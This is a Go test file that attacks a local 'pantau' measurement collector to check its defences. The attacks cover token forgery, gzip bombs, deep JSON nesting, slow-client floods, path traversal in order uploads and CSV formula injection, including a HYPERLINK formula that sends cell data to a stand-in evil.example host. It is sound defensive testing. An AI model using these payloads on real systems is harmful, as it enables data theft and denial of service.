package cli_test

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/pantau-dev/pantau/collector/auth"
	"github.com/pantau-dev/pantau/internal/influxtest"
	"github.com/pantau-dev/pantau/internal/measurement"
)

// The collector under attack runs with deadlines and limits lowered so that every attack
// ends in seconds (security.yaml below).
const (
	secAdminToken   = "security-test-admin-token-0123456789"
	secReadTimeout  = 2 * time.Second
	secConnsPerAddr = 16
	secBodyBytes    = 64 << 10
	// secSlowClients is how many slow clients one address opens at once.
	secSlowClients = 300
)

// secConfig is the attacked collector's config: a real InfluxDB, an admin token, an
// orders folder, one revoked probe, and the lowered deadlines and caps.
func secConfig(influx, bucket, orders string) string {
	return fmt.Sprintf(`listen: 127.0.0.1:0
secret: %s
admin_token: %s
revoked: [probe:revoked-01]
influx: {url: %s, bucket: %s, timeout: 30s}
orders_dir: %s
limits: {body_bytes: %d, probe_rate: 0, read_rate: 0}
http: {read_header_timeout: 1s, read_timeout: %s, write_timeout: 10s, idle_timeout: 5s, conns_per_addr: %d}
`, secret, secAdminToken, influx, bucket, orders, secBodyBytes, secReadTimeout, secConnsPerAddr)
}

// secEnv is a collector under attack and what the attacks need.
type secEnv struct {
	c      *collector
	cfg    string // the config file: it holds the signing secret and the admin token
	orders string // orders_dir
	addr   string // the collector's HOST:PORT
	token  string // a valid probe token (probe jkt-01, network Telkomsel)
}

// answer is what an attack got back.
type answer struct {
	code    int // HTTP status; 0: no answer (the connection was closed first)
	header  http.Header
	body    string
	elapsed time.Duration // from the request's last byte sent to the answer
	closed  bool          // the collector closed the connection after answering
	// connClose: the answer said "Connection: close" (raw only; net/http takes the
	// header out of the answer's header).
	connClose bool
}

// attack is one hostile request and the answer it must get. To add one, append a row to
// attacks: send builds and sends it (helpers: post, do, raw, sign), code is the status
// expected, has the substrings the body must hold and check anything else. No answer may
// hold the signing secret or the admin token.
type attack struct {
	name  string
	send  func(t *testing.T, e *secEnv) answer
	code  int
	has   []string
	check func(t *testing.T, e *secEnv, a answer)
}

// TestSecurity sends each attack to the real collector (`collector serve` on the real
// InfluxDB, over TCP) and checks the answer.
func TestSecurity(t *testing.T) {
	e := newSecEnv(t)
	for _, a := range attacks() {
		t.Run(a.name, func(t *testing.T) {
			got := a.send(t, e)
			if got.code != a.code {
				t.Errorf("HTTP %d, want %d; body %q", got.code, a.code, got.body)
			}
			for _, s := range a.has {
				if !strings.Contains(got.body, s) {
					t.Errorf("body %q lacks %q", got.body, s)
				}
			}
			for _, s := range []string{secret, secAdminToken} {
				if strings.Contains(got.body, s) {
					t.Errorf("the answer quotes a secret: %q", got.body)
				}
			}
			if a.check != nil {
				a.check(t, e, got)
			}
		})
	}
}

func attacks() []attack {
	return []attack{
		// Tokens.
		{name: "no token", code: http.StatusUnauthorized, has: []string{`"error":"missing token"`},
			send: func(t *testing.T, e *secEnv) answer { return e.post(t, "", nil, validBatch(t)) }},
		{name: "garbage token", code: http.StatusUnauthorized, has: []string{"malformed token"},
			send: func(t *testing.T, e *secEnv) answer { return e.post(t, "garbage", nil, validBatch(t)) }},
		{name: "token signed with another secret", code: http.StatusUnauthorized, has: []string{"bad token signature"},
			send: func(t *testing.T, e *secEnv) answer {
				return e.post(t, issueWith(t, strings.ToUpper(secret), "jkt-01", "Telkomsel", time.Time{}), nil, validBatch(t))
			}},
		{name: "expired token", code: http.StatusUnauthorized, has: []string{"token expired"},
			send: func(t *testing.T, e *secEnv) answer {
				return e.post(t, issueWith(t, secret, "jkt-01", "Telkomsel", time.Now().Add(-time.Hour)), nil, validBatch(t))
			}},
		{name: "revoked token", code: http.StatusUnauthorized, has: []string{`token revoked: probe \"revoked-01\"`},
			send: func(t *testing.T, e *secEnv) answer {
				return e.post(t, issueWith(t, secret, "revoked-01", "Telkomsel", time.Time{}), nil, validBatch(t))
			}},
		{name: "token for a network the query API cannot name", code: http.StatusUnauthorized,
			has: []string{"malformed token"},
			send: func(t *testing.T, e *secEnv) answer {
				return e.post(t, sign(t, `{"probe":"jkt-09","network":"XL Axiata (Tbk)","country":"ID","asn":24203,"iat":1767323045,"jti":"x"}`), nil, validBatch(t))
			}},
		{name: "an auth failure closes the connection, not waiting for the body", code: http.StatusUnauthorized,
			send: func(t *testing.T, e *secEnv) answer {
				// 100 KB announced, 10 bytes sent: net/http would wait for the rest (up
				// to 256 KiB) to keep the connection, with no deadline.
				return e.raw(t, "127.0.0.1", "POST /api/v1/measurements HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n[{\"id\":\"a", 0)
			},
			check: quickAndClosed},

		// Bodies.
		{name: "oversized body", code: http.StatusRequestEntityTooLarge, has: []string{fmt.Sprintf("body: larger than %d bytes", secBodyBytes)},
			send: func(t *testing.T, e *secEnv) answer {
				return e.post(t, e.token, nil, append(append([]byte("["), bytes.Repeat([]byte(" "), secBodyBytes)...), ']'))
			}},
		{name: "gzip bomb", code: http.StatusRequestEntityTooLarge, has: []string{fmt.Sprintf("body: larger than %d bytes", secBodyBytes)},
			send: func(t *testing.T, e *secEnv) answer {
				var zipped bytes.Buffer
				zw := gzip.NewWriter(&zipped)
				_, _ = zw.Write(bytes.Repeat([]byte{' '}, 64<<20)) // 64 MiB of spaces, 64 KiB zipped
				_ = zw.Close()
				return e.post(t, e.token, map[string]string{"Content-Encoding": "gzip"}, zipped.Bytes())
			}},
		{name: "unsupported content encoding", code: http.StatusUnsupportedMediaType,
			has: []string{`Content-Encoding \"br\" is not supported (want gzip or none)`},
			send: func(t *testing.T, e *secEnv) answer {
				return e.post(t, e.token, map[string]string{"Content-Encoding": "br"}, validBatch(t))
			}},
		{name: "wrong content type: a form", code: http.StatusBadRequest,
			send: func(t *testing.T, e *secEnv) answer {
				return e.post(t, e.token, map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, []byte("id=1&domain=t.me"))
			}},
		{name: "deep JSON nesting", code: http.StatusBadRequest, has: []string{`body: item 0: malformed JSON near byte 50041: invalid character '{' exceeded max depth`},
			send: func(t *testing.T, e *secEnv) answer {
				deep := strings.Repeat(`{"a":`, 10000) + "1" + strings.Repeat("}", 10000)
				return e.post(t, e.token, nil, []byte(`[{"id":"5ec7da1fc3180e40bee24413f74f0fd0","x":`+deep+`}]`))
			}},
		{name: "duplicate keys", code: http.StatusUnprocessableEntity, has: []string{`measurements[0]: id: given twice`},
			send: func(t *testing.T, e *secEnv) answer {
				_, b := measurementJSON(t, "t.me")
				return e.post(t, e.token, nil, bytes.Replace(b, []byte(`{"id":`), []byte(`{"id":"5ec7da1fc3180e40bee24413f74f0fd0","id":`), 1))
			}},
		{name: "slow body: the read deadline ends it", code: http.StatusRequestTimeout,
			has: []string{"body: not received within the server's read timeout"},
			send: func(t *testing.T, e *secEnv) answer {
				return e.raw(t, "127.0.0.1", "POST /api/v1/measurements HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "+e.token+
					"\r\nContent-Length: 1000\r\n\r\n[{\"id\":", 0)
			},
			check: func(t *testing.T, _ *secEnv, a answer) {
				if a.elapsed < secReadTimeout/2 || a.elapsed > 3*secReadTimeout {
					t.Errorf("answered after %s; want about the read timeout %s", a.elapsed, secReadTimeout)
				}
			}},
		{name: "slow clients from one address do not starve /healthz", code: http.StatusOK, has: []string{`"status":"ok"`},
			send: slowClients},

		// Admin.
		{name: "admin upload without a session is refused before its body", code: http.StatusUnauthorized,
			has: []string{"session: log in first"},
			send: func(t *testing.T, e *secEnv) answer {
				return e.raw(t, "127.0.0.1", "POST /admin/orders HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 500000\r\n\r\n", 0)
			},
			check: quickAndClosed},
		{name: "admin login without the login page's cookie is refused before its body", code: http.StatusForbidden,
			has: []string{"form: expired or not from this page"},
			send: func(t *testing.T, e *secEnv) answer {
				return e.raw(t, "127.0.0.1", "POST /admin/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\n", 0)
			},
			check: quickAndClosed},
		{name: "admin API without the token is refused before its body", code: http.StatusUnauthorized,
			has: []string{"authorization: a bearer token is required"},
			send: func(t *testing.T, e *secEnv) answer {
				return e.raw(t, "127.0.0.1", "PUT /api/v1/orders/x HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\nid: x\n", 0)
			},
			check: quickAndClosed},
		{name: "admin API with a wrong token", code: http.StatusForbidden, has: []string{"authorization: wrong admin token"},
			send: func(t *testing.T, e *secEnv) answer {
				return e.do(t, http.MethodPut, "/api/v1/orders/x", map[string]string{"Authorization": "Bearer " + secAdminToken[:20]}, []byte("id: x\n"))
			}},
		{name: "target_list outside orders_dir", code: http.StatusBadRequest,
			has:  []string{`upload.yaml:7: target_list: \"/`, `collector.yaml\": want a relative path inside the orders folder`},
			send: func(t *testing.T, e *secEnv) answer { return e.putOrder(t, "evil", "target_list: "+e.cfg+"\n") }},
		{name: "target_list through .. out of orders_dir", code: http.StatusBadRequest,
			has:  []string{`target_list: \"../collector.yaml\": want a relative path inside the orders folder`},
			send: func(t *testing.T, e *secEnv) answer { return e.putOrder(t, "evil", "target_list: ../collector.yaml\n") }},
		{name: "target_list naming a file of orders_dir that is no list", code: http.StatusBadRequest,
			has:  []string{"notes.txt:1: not a valid target line", "notes.txt:2: not a valid target line"},
			send: func(t *testing.T, e *secEnv) answer { return e.putOrder(t, "evil", "target_list: notes.txt\n") }},

		// Reads.
		{name: "query for a network no token can have", code: http.StatusBadRequest,
			has: []string{`network: \"XL Axiata (Tbk)\"`},
			send: func(t *testing.T, e *secEnv) answer {
				return e.do(t, http.MethodGet, "/api/v1/measurements?"+url.Values{"network": {"XL Axiata (Tbk)"}}.Encode(), nil, nil)
			}},
		{name: "CSV export of a measurement with formula cells", code: http.StatusOK,
			has:  []string{`,"'=HYPERLINK(""http://evil.example/?""&A1)",'@SUM(A1:A9),`, `,23693,`},
			send: csvFormulas},
		{name: "CSV export of an order with formula cells", code: http.StatusOK,
			has: []string{`csv-order,'=1+2,'@cmd,'-2+3,blocked`},
			send: func(t *testing.T, e *secEnv) answer {
				if a := e.putOrder(t, "csv-order", "title: =1+2\nauthority: '@cmd'\nreference: -2+3\ndomains: [t.me]\n"); a.code != http.StatusOK {
					t.Fatalf("upload: HTTP %d %s", a.code, a.body)
				}
				return e.do(t, http.MethodGet, "/api/v1/orders?format=csv", nil, nil)
			}},
		{name: "readyz does not name InfluxDB", code: http.StatusOK, has: []string{`{"status":"ready"}`},
			send: func(t *testing.T, e *secEnv) answer { return e.do(t, http.MethodGet, "/readyz", nil, nil) },
			check: func(t *testing.T, _ *secEnv, a answer) {
				influx, _ := influxtest.Server(t)
				if strings.Contains(a.body, strings.TrimPrefix(influx, "http://")) {
					t.Errorf("readyz names InfluxDB: %s", a.body)
				}
			}},
		{name: "readyz with InfluxDB down does not name it", code: http.StatusServiceUnavailable,
			has: []string{`{"error":"storage unavailable","status":"unavailable"}`}, send: readyDown},
	}
}

// newSecEnv starts the collector under attack. Its orders folder holds notes.txt, a file
// with the signing secret that is not a target list.
func newSecEnv(t *testing.T) *secEnv {
	t.Helper()
	influx, _ := influxtest.Server(t)
	dir := t.TempDir()
	orders := filepath.Join(dir, "orders")
	if err := os.Mkdir(orders, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(orders, "notes.txt"), []byte("secret: "+secret+"\nadmin_token: "+secAdminToken+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg := filepath.Join(dir, "collector.yaml")
	if err := os.WriteFile(cfg, []byte(secConfig(influx, influxtest.NewBucket(t), orders)), 0o600); err != nil {
		t.Fatal(err)
	}
	c := serve(t, cfg)
	return &secEnv{c: c, cfg: cfg, orders: orders, addr: strings.TrimPrefix(c.url, "http://"), token: issue(t, cfg, "jkt-01")}
}

// validBatch is a batch of one good measurement.
func validBatch(t *testing.T) []byte {
	_, b := measurementJSON(t, "t.me")
	return b
}

// issueWith signs a token for probe on network with secret; a non-zero expired makes it
// expire then.
func issueWith(t *testing.T, key, probe, network string, expired time.Time) string {
	t.Helper()
	c := auth.Claims{Probe: probe, Network: network, Country: "ID", ASN: 23693}
	if !expired.IsZero() {
		c.IssuedAt, c.ExpiresAt = expired.Add(-time.Hour), expired
	}
	tok, err := auth.Issue([]byte(key), c)
	if err != nil {
		t.Fatal(err)
	}
	return tok
}

// sign signs claims with the collector's secret as they are, valid or not (auth.Issue
// refuses bad claims).
func sign(t *testing.T, claims string) string {
	t.Helper()
	signed := "pt1." + base64.RawURLEncoding.EncodeToString([]byte(claims))
	m := hmac.New(sha256.New, []byte(secret))
	m.Write([]byte(signed))
	return signed + "." + base64.RawURLEncoding.EncodeToString(m.Sum(nil))
}

// do sends a request and reads the whole answer.
func (e *secEnv) do(t *testing.T, method, path string, header map[string]string, body []byte) answer {
	t.Helper()
	req, err := http.NewRequest(method, "http://"+e.addr+path, bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range header {
		req.Header.Set(k, v)
	}
	start := time.Now()
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return answer{code: resp.StatusCode, header: resp.Header, body: string(b), elapsed: time.Since(start)}
}

// post submits a batch with token ("" none).
func (e *secEnv) post(t *testing.T, token string, header map[string]string, body []byte) answer {
	t.Helper()
	h := map[string]string{"Content-Type": "application/json"}
	if token != "" {
		h["Authorization"] = "Bearer " + token
	}
	for k, v := range header {
		h[k] = v
	}
	return e.do(t, http.MethodPost, "/api/v1/measurements", h, body)
}

// putOrder uploads an order through the admin API: a valid order's keys with scope (the
// domains or target_list).
func (e *secEnv) putOrder(t *testing.T, id, scope string) answer {
	t.Helper()
	yaml := "id: " + id + "\n"
	if !strings.Contains(scope, "authority:") {
		yaml += "authority: A\nreference: R\n"
	}
	yaml += "expect: blocked\neffective: 2017-07-14T00:00:00+07:00\nnetworks: [Telkomsel]\n" + scope
	return e.do(t, http.MethodPut, "/api/v1/orders/"+id, map[string]string{"Authorization": "Bearer " + secAdminToken}, []byte(yaml))
}

// raw writes request (headers and as much of a body as it wants) on a connection from
// local (an address of the loopback network) and reads the answer, waiting at most
// three read timeouts; wait > 0 sends nothing more for that long first. It also says
// whether the collector closed the connection after the answer.
func (e *secEnv) raw(t *testing.T, local, request string, wait time.Duration) answer {
	t.Helper()
	conn := e.dial(t, local)
	defer conn.Close()
	if _, err := io.WriteString(conn, request); err != nil {
		t.Fatal(err)
	}
	time.Sleep(wait)
	start := time.Now()
	_ = conn.SetReadDeadline(start.Add(3 * secReadTimeout))
	br := bufio.NewReader(conn)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		return answer{elapsed: time.Since(start)}
	}
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	resp.Body.Close()
	a := answer{code: resp.StatusCode, header: resp.Header, body: string(b), elapsed: time.Since(start), connClose: resp.Close}
	_ = conn.SetReadDeadline(time.Now().Add(time.Second))
	_, err = br.ReadByte()
	a.closed = errors.Is(err, io.EOF) || isReset(err)
	return a
}

// dial connects to the collector from the loopback address local.
func (e *secEnv) dial(t *testing.T, local string) net.Conn {
	t.Helper()
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(local)}, Timeout: 5 * time.Second}
	conn, err := d.Dial("tcp", e.addr)
	if err != nil {
		t.Fatal(err)
	}
	return conn
}

func isReset(err error) bool {
	var op *net.OpError
	return errors.As(err, &op) && strings.Contains(op.Err.Error(), "reset")
}

// quickAndClosed checks that a refused request was answered at once, well before the
// read deadline, and its connection closed rather than kept to drain the body.
func quickAndClosed(t *testing.T, _ *secEnv, a answer) {
	t.Helper()
	if a.elapsed > secReadTimeout/2 {
		t.Errorf("answered after %s: the body was waited for", a.elapsed)
	}
	if !a.closed {
		t.Error("the connection stayed open after the answer")
	}
	if !a.connClose {
		t.Error(`the answer lacks "Connection: close"`)
	}
}

// slowClients opens secSlowClients connections from one address (127.0.0.2) that send
// part of a request and stall, then asks /healthz from another (127.0.0.1). The
// collector keeps secConnsPerAddr of them until their deadline and closes the others at
// once; /healthz answers meanwhile.
func slowClients(t *testing.T, e *secEnv) answer {
	requests := []string{
		"POST /api/v1/measurements HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + e.token + "\r\nContent-Length: 100000\r\n\r\n[",
		"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow:", // headers never end
	}
	conns := make([]net.Conn, secSlowClients)
	for i := range conns {
		conns[i] = e.dial(t, "127.0.0.2")
		defer conns[i].Close()
		if _, err := io.WriteString(conns[i], requests[i%len(requests)]); err != nil {
			t.Fatal(err)
		}
	}
	// Each connection ends: at once (over the cap: closed unanswered), or at its deadline.
	ended := make([]time.Duration, len(conns))
	start := time.Now()
	var wg sync.WaitGroup
	for i, c := range conns {
		wg.Go(func() {
			_ = c.SetReadDeadline(start.Add(4 * secReadTimeout))
			_, _ = io.Copy(io.Discard, c)
			ended[i] = time.Since(start)
		})
	}
	health := e.do(t, http.MethodGet, "/healthz", nil, nil)
	wg.Wait()
	refused, held := 0, 0
	for _, d := range ended {
		switch {
		case d < secReadTimeout/4:
			refused++
		case d < 2*secReadTimeout:
			held++
		}
	}
	if want := secSlowClients - secConnsPerAddr; refused < want || held+refused != secSlowClients {
		t.Errorf("%d connections closed at once, %d at their deadline, %d not within %s; want %d at once and the rest at their deadline",
			refused, held, secSlowClients-refused-held, 2*secReadTimeout, want)
	}
	if health.elapsed > time.Second {
		t.Errorf("/healthz took %s with %d slow clients", health.elapsed, secSlowClients)
	}
	m := e.do(t, http.MethodGet, "/metrics", nil, nil).body
	var counted int
	if i := strings.Index(m, "\npantau_connections_refused_total "); i < 0 {
		t.Error("no pantau_connections_refused_total in the metrics")
	} else if _, err := fmt.Sscan(m[i+len("\npantau_connections_refused_total "):], &counted); err != nil || counted < refused {
		t.Errorf("pantau_connections_refused_total %d, want at least the %d refused", counted, refused)
	}
	return health
}

// csvFormulas stores a measurement whose free texts are formulas and exports it as CSV.
func csvFormulas(t *testing.T, e *secEnv) answer {
	m := &measurement.Measurement{ID: measurement.NewID(), SchemaVersion: 1, Target: "https://t.me/", Kind: "web",
		Domain: "t.me", Port: 443, StartedAt: time.Now().Add(-time.Minute), RuntimeMS: 10,
		Software: measurement.Software{Name: "pantau", Version: "test"},
		Verdict: measurement.Verdict{Status: "blocked", Method: "dns", Reason: `=HYPERLINK("http://evil.example/?"&A1)`,
			Evidence: []string{"@SUM(A1:A9)"}}}
	m.Normalise()
	b, err := json.Marshal([]*measurement.Measurement{m})
	if err != nil {
		t.Fatal(err)
	}
	tok := issueWith(t, secret, "csv-01", "Telkomsel", time.Time{})
	if a := e.post(t, tok, nil, b); a.code != http.StatusOK {
		t.Fatalf("ingest: HTTP %d %s", a.code, a.body)
	}
	return e.do(t, http.MethodGet, "/api/v1/measurements?probe=csv-01&format=csv", nil, nil)
}

// readyDown runs a second collector whose InfluxDB does not answer, and asks it /readyz.
func readyDown(t *testing.T, _ *secEnv) answer {
	dead := "http://127.0.0.1:9"
	cfg := writeConfig(t, configYAML(dead, "pantau/autogen", "[]"))
	c := serve(t, cfg)
	d := &secEnv{addr: strings.TrimPrefix(c.url, "http://")}
	a := d.do(t, http.MethodGet, "/readyz", nil, nil)
	if strings.Contains(a.body, "127.0.0.1:9") {
		t.Errorf("readyz names InfluxDB: %s", a.body)
	}
	return a
}
